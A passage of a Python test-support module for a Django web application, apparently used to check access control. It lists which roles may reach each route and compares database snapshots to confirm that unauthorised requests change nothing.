    "monitoring:report-work-list": _only_for("editor", "owner", public_id="report"),
    "monitoring:decide-link": _only_for("editor", "owner", public_id="finding", pk="finding_link"),
    "monitoring:deal-with-remark": _only_for("editor", "owner", remark="remark"),
    "monitoring:accept-proposal": _only_for("editor", proposal="proposal"),
    "monitoring:decline-proposal": _only_for("editor", sent={"reason": "=not softer"}, proposal="proposal"),
    "monitoring:withdraw-proposal": _only_for("owner", proposal="proposal"),
    "monitoring:undo-review": _only_for("owner", sent={"change": "review_change"}, public_id="reviewed_finding"),
    "monitoring:sample": _only_for("owner", sample="sample"),
    "monitoring:confirm-after-sample": _only_for("owner", sample="sample"),
    "implementation:measures": _public(code="=XB"),
    "implementation:measure": _public(public_id="measure"),
    "implementation:measures-by-finding": _public(code="=XB"),
    # the desk of a state: here of another one than the owner's
    **{
        f"implementation:{name}": _only_for("desk", code="=XB")
        for name in (
            "add-measure",
            "edit-measures",
            "plans",
            "add-plan",
            "desk",
            "triage",
            "undo-decision",
            "desk-shortcuts",
        )
    },
    "implementation:decide": _only_for(
        "desk", code="=XB", sent={"decision": "=not_for_us", "finding": "desk_finding", "not_for_us-reason": "=because"}
    ),
    "implementation:desk-finding": _only_for("desk", code="=XB", public_id="desk_finding"),
    "implementation:break-up-cluster": _only_for("desk", code="=XB", pk="cluster"),
    "implementation:undo-bulk-edit": _only_for("desk", code="=XB", batch="bulk_edit"),
    "implementation:edit-plan": _only_for("desk", code="=XB", public_id="plan"),
    **{f"implementation:{name}": _only_for("desk", public_id="measure") for name in ("edit-measure", "link-findings")},
    "implementation:change-stage": _only_for("desk", public_id="measure", sent={"stage": "=done", "seen": "=1"}),
    "implementation:change-visibility": _only_for(
        "desk", public_id="measure", sent={"visibility": "=desk", "seen": "=1"}
    ),
    "implementation:change-answer": _only_for("desk", public_id="measure", pk="answer"),
    "implementation:end-answer": _only_for("desk", public_id="measure", pk="answer", sent={"reason": "=an error"}),
    "meetings:make-measure": _only_for("desk", public_id="promise"),
    "thesaurus:concept": _public(concept="=shelters"),
    "search:export": _public(form="=csv"),
    "thesaurus:download": _public(form="=csv"),
    "pages:article": _public(number="=7"),
    "pages:article-countries": _public(number="=7"),
    "pages:country": _public(code="=xa"),
    "pages:country-tab": _public(code="=XA", tab="=articles"),
    "openid_connect_login": _public(provider_id="=nobody"),
    "openid_connect_callback": _public(provider_id="=nobody"),
    "network:network": _public(slug="network"),
    "network:network-feed": _public(slug="network"),
    "network:network-people-csv": _public(slug="network"),
    "network:network-people-json": _public(slug="network"),
    "network:organisation": _public(public_id="organisation"),
    "meetings:meeting": _public(slug="meeting"),
    "meetings:countries": _public(slug="meeting"),
    "meetings:documents": _public(slug="meeting"),
    # organisers of this meeting
    "meetings:document": _only_for("organiser", slug="meeting", public_id="meeting_document"),
    "meetings:manage": _only_for("organiser", slug="meeting"),
    "meetings:edit-meeting": _only_for("organiser", slug="meeting"),
    "meetings:publish-meeting": _only_for("organiser", slug="meeting"),
    "meetings:cancel-meeting": _only_for("organiser", slug="meeting"),
    "meetings:open-registration": _only_for("organiser", slug="meeting"),
    "meetings:manage-details": _only_for("organiser", slug="meeting"),
    "meetings:remove-organisation": _only_for("organiser", slug="meeting", pk="meeting_body"),
    "meetings:remove-link": _only_for("organiser", slug="meeting", pk="meeting_link"),
    "meetings:manage-documents": _only_for("organiser", slug="meeting"),
    "meetings:withdraw-document": _only_for("organiser", slug="meeting", public_id="meeting_document"),
    "meetings:manage-helpers": _only_for("organiser", slug="meeting"),
    "meetings:end-duty": _only_for("organiser", slug="meeting", pk="meeting_duty"),
    "meetings:register": _public(slug="meeting"),
    "meetings:invitation": _public(slug="meeting", token="=wrong"),
    "meetings:registration-link": _public(slug="meeting", token="=wrong"),
    "meetings:delegation": _public(slug="meeting", token="=wrong"),
    "meetings:my-registration": _only_for("owner", slug="meeting"),
    "meetings:my-delegation": _only_for("member", slug="meeting", public_id="delegation"),
    "meetings:manage-invitations": _only_for("organiser", slug="meeting"),
    "meetings:resend-invitation": _only_for("organiser", slug="meeting", public_id="meeting_guest"),
    "meetings:withdraw-invitation": _only_for("organiser", slug="meeting", public_id="meeting_guest"),
    "meetings:manage-delegations": _only_for("organiser", slug="meeting"),
    "meetings:email-delegation-head": _only_for("organiser", slug="meeting", public_id="delegation"),
    "meetings:end-nominations": _only_for("organiser", slug="meeting", public_id="delegation"),
    "meetings:change-delegation": _only_for("organiser", slug="meeting", public_id="delegation"),
    "meetings:manage-registrations": _only_for("organiser", slug="meeting"),
    "meetings:export-registrations": _only_for("organiser", slug="meeting"),
    "meetings:set-quota": _only_for("organiser", slug="meeting"),
    "meetings:remove-quota": _only_for("organiser", slug="meeting"),
    "meetings:manage-questions": _only_for("organiser", slug="meeting"),
    "meetings:change-question": _only_for("organiser", slug="meeting", public_id="question"),
    "meetings:send-question-reminders": _only_for("organiser", slug="meeting"),
    "meetings:move-question": _only_for("organiser", slug="meeting", public_id="question"),
    "meetings:remove-question": _only_for("organiser", slug="meeting", public_id="question"),
    "meetings:registration-summary": _only_for("organiser", slug="meeting"),
    "meetings:register-group": _only_for("organiser", slug="meeting"),
    "meetings:manage-registration": _only_for("organiser", slug="meeting", public_id="registration"),
    # on site: who helps with check-in, who has a place, and one's own
    "meetings:letter": _public(code="letter"),
    "meetings:manage-day": _only_for("organiser", slug="meeting"),
    "meetings:walk-in": _only_for("organiser", slug="meeting"),
    "meetings:resolve-walk-in": _only_for("organiser", slug="meeting"),
    "meetings:manage-letters": _only_for("organiser", slug="meeting"),
    "meetings:revoke-letter": _only_for("organiser", slug="meeting", code="letter"),
    "meetings:badges": _only_for("organiser", slug="meeting"),
    "meetings:photographs": _only_for("organiser", slug="meeting"),
    "meetings:my-letters": _only_for("owner", slug="meeting"),
    "meetings:check-in": _only_for("organiser", slug="meeting"),
    "meetings:check-in-participant": _only_for("organiser", slug="meeting"),
    "meetings:undo-check-in": _only_for("organiser", slug="meeting"),
    "meetings:check-in-people": _only_for("organiser", slug="meeting"),
    "meetings:merge-check-ins": _only_for("organiser", slug="meeting"),
    "meetings:check-in-worker": _only_for("organiser", slug="meeting"),
    "meetings:now": _public(slug="meeting"),
    "meetings:now-events": _public(slug="meeting"),
    "meetings:my-calendar": _public(slug="meeting", token="=wrong"),
    "meetings:my-schedule": RouteAccess({"slug": "meeting"}, also=SIGNED_IN),
    "meetings:make-calendar": RouteAccess({"slug": "meeting"}, also=SIGNED_IN),
    "meetings:choose-session": RouteAccess({"slug": "meeting", "verb": "=choose"}, also=SIGNED_IN),
    "meetings:schedule-by-link": _public(slug="meeting", token="=wrong"),
    "meetings:make-calendar-by-link": _public(slug="meeting", token="=wrong"),
    "meetings:choose-by-link": _public(slug="meeting", token="=wrong", verb="=choose"),
    "meetings:suggested-contacts": _only_for("owner", slug="meeting"),
    "meetings:agree-to-suggestions": _only_for("owner", slug="meeting"),
    "meetings:ask-for-talk": _only_for("owner", slug="meeting"),
    "meetings:one-to-one": _only_for("owner", slug="meeting"),
    "meetings:one-to-one-opt-in": _only_for("owner", slug="meeting"),
    "meetings:request-one-to-one": _only_for("owner", slug="meeting", recipient_id="willing"),
    "meetings:answer-one-to-one": _only_for("owner", slug="meeting", public_id="encounter", verb="=accept"),
    "meetings:manage-encounter-times": _only_for("organiser", slug="meeting"),
    "meetings:remove-encounter-time": _only_for("organiser", slug="meeting"),
    # the programme: public once it is published; edited by the organisers
    "meetings:programme": _public(slug="meeting"),
    "meetings:versions": _public(slug="meeting"),
    "meetings:versions-feed": _public(slug="meeting"),
    "meetings:session": _public(slug="meeting", session="meeting_session"),
    "meetings:speakers": _public(slug="meeting"),
    "meetings:speaker-page": _public(slug="meeting", token="=wrong"),
    "meetings:schedule-ics": _public(slug="meeting"),
    "meetings:schedule-json": _public(slug="meeting"),
    "meetings:schedule-xml": _public(slug="meeting"),
    "meetings:manage-agenda": _only_for("organiser", slug="meeting"),
    "meetings:add-suggested-session": _only_for("organiser", slug="meeting", article="=20"),
    "meetings:manage-programme": _only_for("organiser", slug="meeting"),
    "meetings:manage-grid": _only_for("organiser", slug="meeting"),
    "meetings:manage-places": _only_for("organiser", slug="meeting"),
    "meetings:remove-place": _only_for("organiser", slug="meeting"),
    "meetings:manage-availability": _only_for("organiser", slug="meeting"),
    "meetings:remove-availability": _only_for("organiser", slug="meeting"),
    "meetings:publish-programme": _only_for("organiser", slug="meeting"),
    "meetings:new-session": _only_for("organiser", slug="meeting"),
    "meetings:edit-session": _only_for("organiser", slug="meeting", session="meeting_session"),
    "meetings:move-session": _only_for("organiser", slug="meeting", session="meeting_session"),
    "meetings:copy-session": _only_for("organiser", slug="meeting", session="meeting_session"),
    "meetings:cancel-session": _only_for("organiser", slug="meeting", session="meeting_session"),
    "meetings:remove-session": _only_for("organiser", slug="meeting", session="meeting_session"),
    "meetings:session-people": _only_for("organiser", slug="meeting", session="meeting_session"),
    # outcomes: public once they are published; recorded by the organisers
    "meetings:outcomes": _public(slug="meeting"),
    "meetings:commitment": _public(public_id="promise"),
    "meetings:commitment-progress": _public(token="=wrong"),
    "meetings:commitment-progress-detail": _public(token="=wrong", public_id="promise"),
    "meetings:participants": _public(slug="meeting"),
    "meetings:manage-outcomes": _only_for("organiser", slug="meeting"),
    **{
        f"meetings:{name}": _only_for("organiser", slug="meeting", public_id="meeting_session")
        for name in ("record", "outcomes-screen", "show-outcomes", "close-record")
    },
    **{
        f"meetings:{name}": _only_for("organiser", slug="meeting", public_id="promise")
        for name in ("correct-outcome", "retract-outcome", "commitment-contact", "publish-outcome")
    },
    "meetings:survey": _only_for("owner", slug="meeting"),
    "meetings:survey-by-link": _public(slug="meeting", token="=wrong"),
    "meetings:manage-survey": _only_for("organiser", slug="meeting"),
    "meetings:remove-survey-question": _only_for("organiser", slug="meeting", question="survey_question"),
    "meetings:manage-report": _only_for("organiser", slug="meeting"),
    "meetings:report-docx": _only_for("organiser", slug="meeting"),
    "meetings:report-pdf": _only_for("organiser", slug="meeting"),
    # contributions: their authors, reviewers and organisers
    "meetings:call": _public(slug="meeting"),
    "meetings:submit-contribution": _public(slug="meeting"),
    "meetings:submit-by-link": _public(slug="meeting", token="=wrong"),
    "meetings:my-contribution": _only_for("owner", slug="meeting", public_id="contribution"),
    "meetings:review-contributions": _only_for("organiser", "member", slug="meeting"),
    "meetings:review-contribution": _only_for("organiser", "member", slug="meeting", public_id="contribution"),
    "meetings:manage-contributions": _only_for("organiser", slug="meeting"),
    "meetings:decide-contribution": _only_for("organiser", slug="meeting", public_id="contribution"),
    "meetings:manage-exchange": _only_for("organiser", slug="meeting"),
    "meetings:import-programme": _only_for("organiser", slug="meeting"),
    "meetings:export-programme": _only_for("organiser", slug="meeting", form="=schedule.xml"),
    # opened only by a secret in the URL: a wrong one gives no access (see the tests of accounts)
    "account_confirm_email": _public(key="=wrong"),
    "account_reset_password_from_key": _public(uidb36="=1", key="=wrong"),
    "network:open-invitation": _public(token="=wrong"),
    # one's own data
    "monitoring:review": _only_for("editor", "owner", public_id="finding"),
    "monitoring:upload-progress": _only_for("owner", upload="upload"),
    "mfa_edit_webauthn": _only_for("owner", pk="passkey"),
    "mfa_remove_webauthn": _only_for("owner", pk="passkey"),
    "network:end-session": _only_for("owner", pk="session"),
    "network:my-question": _only_for("owner", "member", public_id="forwarded"),
    "network:decline-to-answer": _only_for("member", "owner", public_id="forwarded"),
    "network:close-question": _only_for("owner", "member", public_id="forwarded"),
    "network:profile-preview": _only_for("owner", *SIGNED_IN, seen_as="=network"),
    "network:give-consent": _only_for("owner", *SIGNED_IN, purpose="=directory"),
    "network:withdraw-consent": _only_for("owner", *SIGNED_IN, purpose="=directory"),
    # what a person shows to those who may read the directory
    "network:person": _only_for("fellow", *READERS, public_id="person"),
    "network:photograph": _only_for("fellow", *READERS, public_id="person"),
    "network:ask-member": _only_for("fellow", *READERS, public_id="member"),
    # the secretariat of this network
    "network:pending-question": _only_for("secretariat", public_id="waiting"),
    "network:forward-question": _only_for("secretariat", public_id="waiting"),
    "network:decline-question": _only_for("secretariat", public_id="waiting"),
    "network:ask-sender": _only_for("secretariat", public_id="waiting"),
    "network:resend-invitation": _only_for("secretariat", "administrator", public_id="invitation"),
    "network:withdraw-invitation": _only_for("secretariat", "administrator", public_id="invitation"),
    "network:erase-person": _only_for("secretariat", "administrator", public_id="person"),
    "network:network-members": _only_for("secretariat", slug="network"),
    "network:add-member": _only_for("secretariat", slug="network"),
    "network:export-members": _only_for("secretariat", slug="network"),
    "network:network-seats": _only_for("secretariat", slug="network"),
    "network:end-seat": _only_for("secretariat", slug="network", seat="seat"),
    "network:end-term": _only_for("secretariat", public_id="membership"),
    "network:manage-person": _only_for("secretariat", public_id="person"),
    "network:invite-person": _only_for("secretariat", public_id="without_account"),
    "network:set-risk": _only_for("secretariat", public_id="person"),
    "network:record-basis": _only_for("secretariat", public_id="person"),
    "network:end-basis": _only_for("secretariat", public_id="person", basis="basis"),
    "network:remove-photograph-of": _only_for("secretariat", public_id="person"),
    "network:appoint": _only_for("secretariat", public_id="person", slug="network"),
    "funding:activity": _public(slug="activity"),
    "funding:activity-iati": _public(slug="activity"),
    "funding:table": _public(form="=csv"),
    **{
        f"funding:{name}": _only_for("secretariat", "abroad", "administrator", slug="activity")
        for name in ("edit", "add-transaction", "add-result", "add-link")
    },
    "funding:change-part": _only_for(
        "secretariat", "abroad", "administrator", slug="activity", part_type="=transactions", pk="money"
    ),
    "funding:remove": _only_for(
        "secretariat", "abroad", "administrator", slug="activity", part_type="=transactions", pk="money"
    ),
    # the desk of a state, and by their links the officials whom it asks
    **{f"implementation:{name}": _only_for("desk", code="=XB") for name in ("asks", "new-ask", "send-asks")},
    **{
        f"implementation:{name}": _only_for("desk", code="=XB", public_id="body_ask")
        for name in (
            "ask",
            "send-ask-again",
            "send-ask-back",
            "accept-ask",
            "remind-of-ask",
            "lapse-ask",
            "withdraw-ask",
            "change-ask-official",
            "change-ask-due-day",
            "release-ask-browser",
            "enter-ask-answers",
        )
    },
    **{
        f"implementation:{name}": _only_for("desk", code="=XB", public_id="drafted_ask")
        for name in ("edit-ask", "delete-ask")
    },
    "implementation:ask-file": _only_for("desk", code="=XB", public_id="body_ask", form="=xlsx"),
    "implementation:use-ask-answer": _only_for(
        "desk", code="=XB", public_id="body_ask", question="body_ask_question", sent={"make": "=evidence"}
    ),
    "implementation:end-ask-emails": _public(token="=wrong"),
    "implementation:ask-link": _public(token="=wrong"),
    "implementation:ask-link-upload": _public(token="=wrong"),
    "implementation:ask-link-file": _public(token="=wrong", form="=xlsx"),
    "implementation:measures-table": _public(code="=XB", form="=csv"),
    **{
        f"implementation:{name}": _only_for("desk", code="=XB")
        for name in ("imports", "check-import", "confirm-import")
    },
    **{
        f"implementation:{name}": _only_for("desk", code="=XB", public_id="measure_import")
        for name in ("import", "undo-import")
    },
    "network:edit-organisation": _only_for("secretariat", public_id="organisation"),
    # administrators
    "network:edit-network": _only_for("administrator", slug="network"),
    "network:account-rights": _only_for("administrator", public_id="account"),
    "network:give-role": _only_for("administrator", public_id="account"),
    "network:end-role": _only_for("administrator", public_id="account", grant="grant"),
    "network:refuse-claim": _only_for("administrator", public_id="account"),
    "network:end-refusal": _only_for("administrator", public_id="account", refusal="refusal"),
    "network:deactivate-account": _only_for("administrator", public_id="account"),
    "network:reactivate-account": _only_for("administrator", public_id="account"),
    "network:remove-second-factor": _only_for("administrator", public_id="account"),
    "network:sign-out-everywhere": _only_for("administrator", public_id="account"),
    # auditors
    "network:export-audit-log": _only_for("auditor", form="=csv"),
}


# Objects whose existence is secret; networks, organisations, reports and findings are public.
SECRET_KINDS = frozenset(
    {
        "person", "member", "without_account", "account", "upload", "waiting", "forwarded", "invitation", "grant",
        "refusal", "passkey", "session", "membership", "basis", "contribution", "sample",
        "report_draft", "edited_file",
        "offered_evidence", "room",
        "room_section", "room_member",
        "body_ask", "drafted_ask", "measure_import",
    }
)  # fmt: skip


def content_of(answer: Any) -> bytes:
    """Return the whole body of a response; reading a streamed response to its end also closes its file."""
    return b"".join(answer) if answer.streaming else answer.content


def html_of(answer: Any) -> str:
    """Return the response's text if a browser would render it as a page, else ""."""
    content = content_of(answer)
    return content.decode() if answer.get("Content-Type", "").startswith(("text/html", "image/svg")) else ""


def address_of(route: Route, world: World) -> str:
    """Return the URL of a route in this world."""
    return route.address(**_resolve_ids(ROUTE_ACCESS[route.name].ids if route.parameters else {}, world))


def post_data_of(route: Route, world: World) -> dict[str, Any]:
    """Return what a POST to a route needs in this world to have an effect."""
    return _resolve_ids(ROUTE_ACCESS[route.name].sent if route.parameters else {}, world)


def _resolve_ids(ids: dict[str, str], world: World) -> dict[str, Any]:
    return {name: id_[1:] if id_.startswith("=") else world.ids[id_] for name, id_ in ids.items()}


# --- Database snapshots -----------------------------------------------------------------------------------------------

# Not the site's content: sessions, tasks, the audit log, the counters of the rate limits and Django's own tables, to
# which every visit may write.
ACTIVITY_TABLES = {
    "sessions.Session", "usersessions.UserSession", "samsvar_audit.AuditEntry", "samsvar_audit.ChangeNumber",
    "samsvar_shell.RateLimitCounter", "django_tasks_database.DBTaskResult", "contenttypes.ContentType",
    "auth.Permission", "auth.Group",
}  # fmt: skip
# Columns that differ in every new row: random ids, salted hashes, times and secrets.
UNIQUE_COLUMNS = {"id", "public_id", "token_hash", "password", "key", "last_login", "body", "html", "browser", "data"}


def database_snapshot(*, but_passing: bool = True) -> dict[str, list[dict[str, Any]]]:
    """Return every row of every table, as stored in the database: an attack must leave them unchanged."""
    found = {}
    with connection.cursor() as cursor:
        for label, (names, query) in _select_queries().items():
            if not (but_passing and label in ACTIVITY_TABLES):
                cursor.execute(query)
                found[label] = [dict(zip(names, row, strict=True)) for row in cursor.fetchall()]
    return found


@cache
def _select_queries() -> dict[str, tuple[list[str], str]]:
    """Return, by table, its column names and a query for all its rows; raw SQL is faster than Django's ORM here."""
    quote, found = connection.ops.quote_name, {}
    for model in apps.get_models():
        if model._meta.proxy:
            continue
        fields = model._meta.local_concrete_fields
        wanted = ", ".join(quote(field.column) for field in fields)
        query = f"SELECT {wanted} FROM {quote(model._meta.db_table)} ORDER BY {quote(model._meta.pk.column)}"
        found[model._meta.label] = ([field.attname for field in fields], query)
    return found


def snapshot_difference(
    before: dict[str, list[dict[str, Any]]], after: dict[str, list[dict[str, Any]]]
) -> dict[str, tuple[list[str], list[str]]]:
    """Return the rows removed and added, by table, without the columns that always differ; {} if nothing changed."""
    found = {}
    there = {table: {row.get(_primary_key_of(table)) for row in rows} for table, rows in before.items()}
    for table, rows_before in before.items():
        if rows_before == after[table]:
            continue  # most tables are unchanged, and comparing rows as texts is slow
        old, new = ([_comparable_text(table, row, there) for row in rows] for rows in (rows_before, after[table]))
        gone, come = list(old), []
        for row in new:
            if row in gone:
                gone.remove(row)
            else:
                come.append(row)
        if gone or come:
            found[table] = (sorted(gone), sorted(come))
    return found


def _primary_key_of(table: str) -> str:
    return apps.get_model(table)._meta.pk.attname


@cache
def _unpredictable_columns(table: str) -> set[str]:
    """Return the columns of a table that hold a time or a UUID, or refer to a row identified by one."""
    return {
        field.attname
        for field in apps.get_model(table)._meta.concrete_fields
        if isinstance(
            field.target_field if field.is_relation else field,
            columns.DateTimeField | columns.TimeField | columns.UUIDField,
        )
    }


def _comparable_text(table: str, row: dict[str, Any], there: dict[str, set[Any]]) -> str:
    """Return a row as text, with "new" for a reference to a row that did not exist before.

    Databases number new rows differently.
    """
    leads_to = {
        column.attname: column.related_model._meta.label
        for column in apps.get_model(table)._meta.concrete_fields
        if column.is_relation
    }
    kept = {}
    for name, value in row.items():
        if name in UNIQUE_COLUMNS or name in _unpredictable_columns(table):
            continue
        table_there = there.get(leads_to[name]) if name in leads_to else None
        is_new = table_there is not None and value is not None and value not in table_there
        kept[name] = "new" if is_new else value
    return json.dumps(kept, default=str, sort_keys=True)


# --- Forms on pages ---------------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Form:
    """A form on a page: where it is sent, and the fields that a browser would send."""

    action: str
    fields: tuple[tuple[str, str, tuple[str, ...]], ...]  # name, kind, values (of a hidden field or of the options)

    @property
    def names(self) -> frozenset[str]:
        return frozenset(name for name, _, _ in self.fields)

    @property
    def free(self) -> tuple[str, ...]:
        """Return the fields into which a user can type."""
        return tuple(name for name, kind, _ in self.fields if kind in {"text", "email", "url", "search", "textarea"})


def forms_on(page: str, address: str) -> list[Form]:
    """Return the forms of a page that are sent by POST."""
    found = []
    for form in LexborHTMLParser(page).css("form"):
        if (form.attributes.get("method") or "").lower() != "post":
            continue
        fields: list[tuple[str, str, tuple[str, ...]]] = []
        for node in form.css("input, textarea, select, button"):
            name = node.attributes.get("name")
            if not name or name == "csrfmiddlewaretoken":
                continue
            if node.tag == "select":
                values = tuple(option.attributes.get("value") or "" for option in node.css("option"))
                fields.append((name, "select", values))
            elif node.tag == "textarea":
                fields.append((name, "textarea", (node.text() or "",)))
            else:
                kind = node.attributes.get("type") or ("submit" if node.tag == "button" else "text")
                fields.append((name, kind, (node.attributes.get("value") or "",)))
        action = (form.attributes.get("action") or "") or address
        found.append(Form(action, tuple(fields)))
    return found
